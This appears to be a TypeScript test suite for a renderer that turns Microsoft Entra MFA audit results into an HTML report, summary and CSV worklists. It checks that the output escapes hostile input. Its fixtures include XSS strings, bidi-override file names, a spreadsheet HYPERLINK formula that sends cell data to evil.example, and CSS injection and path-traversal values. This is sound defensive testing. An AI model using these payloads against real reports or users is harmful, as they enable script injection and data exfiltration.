import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { renderPack } from '../../src/render/index.js';
import { CONTENT_SECURITY_POLICY, TEMPLATES_DIR, brandCss, builtInPartials, compileReportTemplate } from '../../src/render/html.js';
import { BRANDING, SAMPLE_DIR, loadSample, scratch } from '../fixtures/results-sample/load.js';

let html: string;
let out: string;

beforeAll(async () => {
  out = await scratch('html');
  await renderPack(await loadSample(), { resultsDir: SAMPLE_DIR, outDir: out, branding: BRANDING, pdf: false });
  html = await readFile(join(out, 'audit.html'), 'utf8');
});

describe('audit.html', () => {
  it('has no script anywhere and carries the CSP meta tag', () => {
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${CONTENT_SECURITY_POLICY}">`);
    // the CSP comes before anything it governs
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<style>'));
  });

  it('shows a hostile display name as text, never as markup', () => {
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('&lt;b&gt;Helpdesk&lt;/b&gt; Admin');
    expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i); // no event-handler attribute on any tag
  });

  it('loads nothing from outside the file', () => {
    expect(html).not.toMatch(/\s(src|srcset|poster|data)\s*=\s*"(?!data:)/i);
    expect(html).not.toMatch(/<link\b|@import|url\(\s*(?!['"]?(#|data:))/i);
    expect(html).not.toMatch(/<(iframe|object|embed|form|base)\b/i);
  });

  it('makes bidi override characters visible instead of letting them flip text', () => {
    expect(html).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(html).toContain('Invoice[U+202E]gpj.exe');
    expect(html).toMatch(/<bdi>Invoice\[U\+202E\]gpj\.exe<\/bdi>/);
  });

  it('links only https remediation links, with rel="noopener noreferrer"', () => {
    const anchors = [...html.matchAll(/<a\s[^>]*href="([^"]*)"[^>]*>/g)];
    const external = anchors.filter((m) => !m[1]!.startsWith('#'));
    expect(external.length).toBeGreaterThan(0);
    for (const m of external) {
      expect(m[1]).toMatch(/^https:\/\//);
      expect(m[0]).toContain('rel="noopener noreferrer"');
    }
    expect(html).not.toMatch(/href="(javascript|http):/i);
    expect(html).toContain('javascript:alert(1)</span> <span class="muted">(not a secure link; shown as text)');
  });

  it('shows an error finding as not evaluated, with its reason, never as pass or fail', () => {
    const start = html.indexOf('id="finding-registration-failures-spike"');
    expect(start).toBeGreaterThan(0);
    const article = html.slice(start, html.indexOf('</article>', start));
    expect(article).toMatch(/could not be evaluated/i);
    expect(article).toContain('Authentication_RequestFromNonPremiumTenantOrB2CTenant');
    expect(article).toContain('Not evaluated');
    expect(article).not.toMatch(/status-(pass|fail)/);
  });

  it('orders findings by outcome group, then severity, then check id', () => {
    const ids = [...html.matchAll(/<article class="finding [^"]*" id="finding-([^"]+)"/g)].map((m) => m[1]);
    expect(ids).toEqual([
      'admins-without-phishing-resistant-method',
      'mfa-capable-below-target',
      'mfa-not-enforced-for-all-users',
      'passwordless-below-target',
      'registration-failures-spike',
      'sspr-enabled-not-registered',
      'phone-only-mfa-users',
      'breakglass-without-phishing-resistant-method',
    ]);
  });

  it('shows an excepted finding with its exception: owner, reason, expiry', () => {
    const start = html.indexOf('id="finding-sspr-enabled-not-registered"');
    const article = html.slice(start, html.indexOf('</article>', start));
    expect(article).toContain('status-excepted');
    expect(article).toContain('Exceptions in force');
    expect(article).toContain('<td><bdi>iam-lead@contoso.com</bdi></td><td>SSPR rollout phase 2 in progress; registration enforced from 15 Jan</td><td><time datetime="2027-02-28">28 Feb 2027</time></td><td class="num">41</td>');
  });

  it('links every contents entry to an element of the document', () => {
    const nav = html.slice(html.indexOf('<nav class="toc"'), html.indexOf('</nav>'));
    const targets = [...nav.matchAll(/href="#([^"]+)"/g)].map((m) => m[1]!);
    expect(targets.length).toBeGreaterThanOrEqual(12);
    for (const t of targets) expect(html, t).toContain(`id="${t}"`);
    expect(nav).not.toContain('toc-page'); // page numbers only in the PDF
  });

  it('caps the affected table and points to the complete worklist', () => {
    const start = html.indexOf('id="finding-mfa-capable-below-target"');
    const article = html.slice(start, html.indexOf('</article>', start));
    expect(article.match(/<tr><td><bdi>/g)).toHaveLength(25);
    expect(article).toContain('161 more in <span class="mono">worklists/mfa-capable-below-target.csv</span>');
  });

  it('lists affected users for a failing finding only: a pass shows the count, no table, no worklist', () => {
    const start = html.indexOf('id="finding-phone-only-mfa-users"');
    const article = html.slice(start, html.indexOf('</article>', start));
    expect(article).toContain('status-pass');
    expect(article).toContain('<span class="muted">Affected users:</span> 187');
    expect(article).not.toContain('class="data affected"');
    expect(article).not.toContain('worklists/');
  });

  it('states who counts as an admin and lists role holders outside the metrics as text', () => {
    const start = html.indexOf('id="methodology"');
    const section = html.slice(start, html.indexOf('</section>', start));
    expect(section).toContain('who counts as an administrator');
    expect(section).toContain('entra-privileged');
    expect(section).toContain('&lt;svg onload=alert(1)&gt; legacy sync');
    expect(section).toContain('former.<wbr>admin@<wbr>contoso.<wbr>com');
  });

  it('has every section, the score cards and the charts inline', () => {
    for (const id of ['document-control', 'summary', 'metrics', 'enforcement', 'findings', 'coverage', 'methodology', 'enforcement-model', 'appendix-sources', 'appendix-metrics', 'glossary']) {
      expect(html).toContain(`id="${id}"`);
    }
    expect(html.match(/<svg /g)).toHaveLength(9);
    // each chart has a data table
    expect(html.match(/<table class="data chart-table">/g)).toHaveLength(9);
    expect(html).toContain('85.5%');
    expect(html).toContain('1,098 / 1,284');
    expect(html).toContain('72f988bf-86f1-41af-91ab-2d7cd011db47');
    expect(html).toContain('2026-11-27T09:14:41.087Z');
  });

  it('shows hostile Conditional Access policy names and notes as text: markup escaped, bidi and control characters visible', () => {
    const section = html.slice(html.indexOf('id="enforcement"'), html.indexOf('</section>', html.indexOf('id="enforcement"')));
    expect(section).toContain('<td><bdi>CA001: Require MFA for all users &lt;script&gt;alert(1)&lt;/script&gt;</bdi></td>');
    expect(section).toContain('<bdi>CA002: Admins [U+202E]phishing-resistant[U+202C] strength</bdi>');
    expect(section).toContain('CA004: Block legacy authentication[U+0007]');
    expect(section).toContain('<bdi>CA006 &lt;b&gt;Kiosk&lt;/b&gt;[U+202E] devices</bdi>');
    expect(section).toContain('<li>CA006 &lt;b&gt;Kiosk&lt;/b&gt;[U+202E]: authentication strength');
    expect(section).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Guests: terms of use&quot;)');
    expect(html).not.toMatch(/<script|<b>Kiosk/);
    expect(html).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u202A-\u202E\u2066-\u2069]/);
  });

  it('shows the enforcement coverage, the admins, the registered-vs-enforced cross-tab and the methods policy', () => {
    const section = html.slice(html.indexOf('id="enforcement"'), html.indexOf('</section>', html.indexOf('id="enforcement"')));
    expect(section).toContain('<h2 id="enforcement-h"><span class="section-no">3</span> MFA enforcement</h2>');
    // the stacked bar: one segment per class, widths are the shares, with a text alternative
    expect(section).toContain('aria-label="MFA coverage of the enforcement population: Enforced 86.3%, Conditional 8.7%, Report-only 0.0%, None 5.0%"');
    expect(section).toContain('<div class="seg seg-enforced" style="width: 86.3%"></div>');
    expect(section).toMatch(/<strong>Enforced<\/strong>.*?<td class="num">1,190<\/td><td class="num">86\.3%<\/td>/);
    expect(section).toContain('<tr><th scope="row">MFA not enforced</th><td class="num">150 (10.9%)</td><td class="num">39 (2.8%)</td><td class="num">189 (13.7%)</td></tr>');
    expect(section).toMatch(/Admins with phishing-resistant MFA enforced<div class="tiny muted">9 \/ 23 admins · target: all admins<\/div><\/th><td class="num gap">39\.1%<\/td>/);
    expect(section).toContain('<td>SMS</td><td class="mono">Sms</td><td class="on">Enabled</td><td>all users</td>');
    expect(section).toContain('<span class="badge role-report_only">Report-only</span>');
    expect(section).not.toContain('Not assessable.');
    // the executive summary has it as a headline card, with its target
    const summary = html.slice(html.indexOf('id="summary"'), html.indexOf('</section>', html.indexOf('id="summary"')));
    expect(summary).toMatch(/<p class="card-title">MFA enforced by policy<\/p>\s*<p class="card-value">86\.3%/);
  });

  it('marks a control whose evidence is missing as not assessable, and one only supported as not tested', () => {
    const section = html.slice(html.indexOf('id="coverage"'), html.indexOf('</section>', html.indexOf('id="coverage"')));
    const row = (id: string) => {
      // the control tables follow the matrix
      const start = section.indexOf(`<td class="mono">${id}`, section.indexOf('class="coverage-fw"'));
      return section.slice(start, section.indexOf('</tr>', start));
    };
    expect(row('SI-4')).toContain('<span class="badge status-not_assessable">Not assessable</span>');
    expect(row('SI-4')).toContain('<span class="ce-key">Tested by</span> <a class="plain mono" href="#finding-registration-failures-spike">registration-failures-spike</a>');
    expect(row('SI-4')).toContain('<span class="ce" title="userRegistrationActivity"><span class="ce-key">Data</span> activity reports</span>');
    expect(row('5.2.2.5')).toContain('<span class="badge status-not_applicable">Not tested</span>');
    expect(row('5.2.2.5')).toContain('<span class="ce-key">Supported by</span> <a class="plain mono" href="#finding-admins-without-phishing-resistant-method">admins-without-phishing-resistant-method</a>');
    expect(row('5.2.2.5')).not.toContain('Tested by');
    expect(row('MS.AAD.3.2v2')).toMatch(/Tested by<\/span> <a[^>]*>mfa-not-enforced-for-all-users<\/a><\/span><span class="ce"><span class="ce-key">Supported by<\/span> <a[^>]*>mfa-capable-below-target<\/a>/);
    expect(section).toContain('<span class="badge status-not_assessable">Not assessable 1</span>');
    // in the matrix, a supported control is in brackets beside the tested ones
    expect(section).toContain('<td class="mono">5.2.3.4</td><td class="mono"><span class="supported">(MS.AAD.3.2v2)</span></td>');
    // the badge has its own style
    expect(html).toMatch(/\.status-not_assessable \{[^}]*dashed/);
    expect(section).toContain('registration data only <strong>supports</strong> it (no verdict)');
  });

  it('is byte-identical when rendered twice, into another folder', async () => {
    const again = await scratch('html-again');
    await renderPack(await loadSample(), { resultsDir: SAMPLE_DIR, outDir: again, branding: BRANDING, pdf: false });
    expect(await readFile(join(again, 'audit.html'))).toEqual(await readFile(join(out, 'audit.html')));
    expect(await readFile(join(again, 'summary.md'))).toEqual(await readFile(join(out, 'summary.md')));
  });

  it('writes the pack and leaves no temporary file behind', async () => {
    expect((await readdir(out)).sort()).toEqual(['audit.html', 'pack-manifest.json', 'summary.md', 'worklists']);
    expect(html).toContain('<div class="watermark" aria-hidden="true">Draft</div>'); // draft is the default status
    expect((await readdir(join(out, 'worklists'))).sort()).toEqual([
      'admins-without-phishing-resistant-method.csv',
      'index.csv',
      'mfa-capable-below-target.csv',
    ]);
    // the index: one row per worklist, most severe first, with the action to take
    const index = (await readFile(join(out, 'worklists', 'index.csv'), 'utf8')).replace(/^\uFEFF/, '').split('\r\n');
    expect(index[0]).toBe('severity,checkId,title,users,action,steps,file');
    expect(index.slice(1, 3).map((l) => l.split(',')[0] + ',' + l.split(',')[1])).toEqual([
      'critical,admins-without-phishing-resistant-method',
      'high,mfa-capable-below-target',
    ]);
    expect(index[2]).toContain(',186,Run a registration campaign so every member registers Microsoft Authenticator or a passkey.,');
    expect(index[2]).toMatch(/,mfa-capable-below-target\.csv$/);
  });
});

describe('enforcement not assessable', () => {
  it('says "Not assessable" with the reason instead of numbers, in the section, the summary and summary.md', async () => {
    const results = await loadSample();
    const reason = 'Enforcement not assessable: source conditionalAccessPolicies forbidden (missing permission or role) HTTP 403 <Authorization_RequestDenied>.';
    results.enforcement = { ...results.enforcement, assessable: false, basis: 'not assessable', notes: [reason], policies: [] };
    for (const id of Object.keys(results.metrics)) if (id.startsWith('enforcement.')) results.metrics[id] = { value: null };
    const dir = await scratch('not-assessable');
    await renderPack(results, { resultsDir: SAMPLE_DIR, outDir: dir, branding: BRANDING, pdf: false });
    const page = await readFile(join(dir, 'audit.html'), 'utf8');
    const section = page.slice(page.indexOf('id="enforcement"'), page.indexOf('</section>', page.indexOf('id="enforcement"')));
    expect(section).toContain(
      '<div class="callout callout-warn"><strong>Not assessable.</strong> Enforcement not assessable: source conditionalAccessPolicies forbidden (missing permission or role) HTTP 403 &lt;Authorization_RequestDenied&gt;. No enforcement share is reported',
    );
    expect(section).not.toMatch(/class="stack"|enf-cross|enf-classes|\d+\.\d%/);
    expect(section).toContain('No Conditional Access policy could be read.');
    expect(page).toMatch(/<p class="card-title">MFA enforced by policy<\/p>[\s\S]*?Not assessable \(section 3\)/);
    const md = await readFile(join(dir, 'summary.md'), 'utf8');
    expect(md).toContain('**Not assessable.** Enforcement not assessable: source conditionalAccessPolicies forbidden (missing permission or role) HTTP 403 &lt;Authorization\\_RequestDenied&gt;.');
    expect(md).not.toContain('| Enforced');
  });
});

describe('templates', () => {
  it('never triple-stash and quote every attribute value', async () => {
    const dirs = [TEMPLATES_DIR, join(TEMPLATES_DIR, 'partials')];
    for (const dir of dirs) {
      for (const file of (await readdir(dir)).filter((f) => f.endsWith('.hbs'))) {
        const text = await readFile(join(dir, file), 'utf8');
        expect(text, file).not.toContain('{{{');
        // html.ts prints Handlebars' escaped "=" as "=": safe only inside quoted attribute values
        expect(text, file).not.toMatch(/=\s*\{\{/);
      }
    }
  });
});

describe('report settings', () => {
  it('prints document control, a final report has no watermark, and Letter sets the page size', async () => {
    const dir = await scratch('settings');
    await renderPack(await loadSample(), {
      resultsDir: SAMPLE_DIR,
      outDir: dir,
      branding: BRANDING,
      pdf: false,
      report: { status: 'final', version: '3.2', preparer: 'Ana García López', reviewer: '山田 太郎', auditPeriod: 'Q4 2026', pageSize: 'Letter' },
    });
    const page = await readFile(join(dir, 'audit.html'), 'utf8');
    expect(page).not.toContain('class="watermark"');
    expect(page).toContain('@page { size: letter; margin: 17mm 16mm 17mm 16mm; }');
    expect(page).toContain('<dt>Prepared by</dt><dd><bdi>Ana García López</bdi></dd>');
    expect(page).toContain('<dt>Reviewed by</dt><dd><bdi>山田 太郎</bdi></dd>');
    expect(page).toContain('<p class="cover-period">Audit period: <bdi>Q4 2026</bdi></p>');
    expect(page).toContain('<span class="doc-status doc-status-final">Final</span>');
  });

  it('refuses a page size or status it does not know', async () => {
    const base = { resultsDir: SAMPLE_DIR, outDir: await scratch('bad-settings'), branding: BRANDING, pdf: false };
    await expect(renderPack(await loadSample(), { ...base, report: { pageSize: 'A3' as 'A4' } })).rejects.toThrow(/A4 or Letter/);
    await expect(renderPack(await loadSample(), { ...base, report: { status: 'done' as 'final' } })).rejects.toThrow(/draft or final/);
  });
});

describe('templates override', () => {
  it('replaces a built-in partial with the one of the same name in templatesDir', async () => {
    const templates = await scratch('templates');
    await writeFile(join(templates, 'cover.hbs'), '<header class="cover custom-cover"><h1>{{cover.organisation}} — custom cover</h1><p>{{meta.version}}</p></header>\n');
    const out = await scratch('templates-out');
    await renderPack(await loadSample(), { resultsDir: SAMPLE_DIR, outDir: out, branding: BRANDING, pdf: false, templatesDir: templates });
    const page = await readFile(join(out, 'audit.html'), 'utf8');
    expect(page).toContain('<header class="cover custom-cover"><h1>Contoso Ltd — custom cover</h1><p>1.0</p></header>');
    expect(page).not.toContain('class="cover-band"');
    // every other partial is still the built-in one
    expect(page).toContain('id="summary"');
    expect(builtInPartials()).toContain('cover');
  });

  it('compiles a template once per source: the same templates give the same function, an edited partial a new one', async () => {
    expect(compileReportTemplate()).toBe(compileReportTemplate());
    const templates = await scratch('templates-edited');
    await writeFile(join(templates, 'cover.hbs'), '<header class="cover">first {{cover.organisation}}</header>\n');
    const first = compileReportTemplate(templates);
    expect(compileReportTemplate(templates)).toBe(first);
    expect(first).not.toBe(compileReportTemplate());
    const out = await scratch('templates-edited-out');
    const render = async () => {
      await renderPack(await loadSample(), { resultsDir: SAMPLE_DIR, outDir: out, branding: BRANDING, pdf: false, templatesDir: templates });
      return readFile(join(out, 'audit.html'), 'utf8');
    };
    expect(await render()).toContain('<header class="cover">first Contoso Ltd</header>');
    // edited between two renders of one process: the new text is compiled, not the cached template reused
    await writeFile(join(templates, 'cover.hbs'), '<header class="cover">second {{cover.organisation}}</header>\n');
    expect(compileReportTemplate(templates)).not.toBe(first);
    const again = await render();
    expect(again).toContain('<header class="cover">second Contoso Ltd</header>');
    expect(again).not.toContain('first Contoso');
  });

  it('appends brand.css, embedding the fonts and images it names from the templates folder', async () => {
    const templates = await scratch('brand-css');
    await mkdir(join(templates, 'fonts'));
    await writeFile(join(templates, 'fonts', 'Brand-Regular.woff2'), Buffer.from('wOF2 not really a font'));
    await writeFile(
      join(templates, 'brand.css'),
      '@font-face { font-family: "Brand Sans"; src: url("fonts/Brand-Regular.woff2") format("woff2"); }\n:root { --font-sans: "Brand Sans", "Liberation Sans", sans-serif; }\n',
    );
    const out = await scratch('brand-css-out');
    await renderPack(await loadSample(), { resultsDir: SAMPLE_DIR, outDir: out, branding: BRANDING, pdf: false, templatesDir: templates });
    const page = await readFile(join(out, 'audit.html'), 'utf8');
    const embedded = `url("data:font/woff2;base64,${Buffer.from('wOF2 not really a font').toString('base64')}")`;
    expect(page).toContain(`src: ${embedded} format("woff2")`);
    expect(page.indexOf('/* brand.css (templates folder) */')).toBeGreaterThan(page.indexOf('--brand: #1f4e79'));
    expect(page).not.toContain('fonts/Brand-Regular.woff2');
  });

  it('refuses a brand.css that would load from outside or end the style element', async () => {
    for (const [css, message] of [
      ['body { background: url(https://evil.example/x.png) }', /loads nothing from outside/],
      ['@import "other.css";', /uses @import/],
      ['p { background: url(../../etc/passwd.png) }', /outside/],
      ['p::after { content: "</style><script>" }', /would end the report's style element/],
    ] as const) {
      const templates = await scratch('brand-css-bad');
      await writeFile(join(templates, 'brand.css'), css);
      await expect(
        renderPack(await loadSample(), { resultsDir: SAMPLE_DIR, outDir: await scratch('brand-css-bad-out'), branding: BRANDING, pdf: false, templatesDir: templates }),
      ).rejects.toThrow(message);
    }
  });

  it('refuses a file that replaces no built-in partial, before writing anything', async () => {
    const templates = await scratch('templates-typo');
    await writeFile(join(templates, 'covr.hbs'), '<p>typo</p>');
    const out = join(await scratch('templates-typo-out'), 'pack');
    await expect(
      renderPack(await loadSample(), { resultsDir: SAMPLE_DIR, outDir: out, branding: BRANDING, pdf: false, templatesDir: templates }),
    ).rejects.toThrow(/covr\.hbs does not replace a built-in partial; the names are: activity, affected-users, appendix, chart, /);
    await expect(readdir(out)).rejects.toThrow();
  });
});

describe('branding', () => {
  it('accepts only #rrggbb, so the colour cannot inject CSS', () => {
    expect(brandCss('#1F4E79')).toContain('--brand: #1f4e79');
    for (const bad of ['red', '#fff', '#1f4e79; } body { display: none', 'url(https://x)']) {
      expect(() => brandCss(bad)).toThrow(/#rrggbb/);
    }
  });

  it('darkens a light brand colour for headings so text keeps its contrast', () => {
    const css = brandCss('#f0e442');
    const ink = /--brand-ink: (#[0-9a-f]{6})/.exec(css)?.[1];
    expect(ink).toBeDefined();
    expect(ink).not.toBe('#f0e442');
    expect(css).toContain('--brand-on: #111827');
  });
});
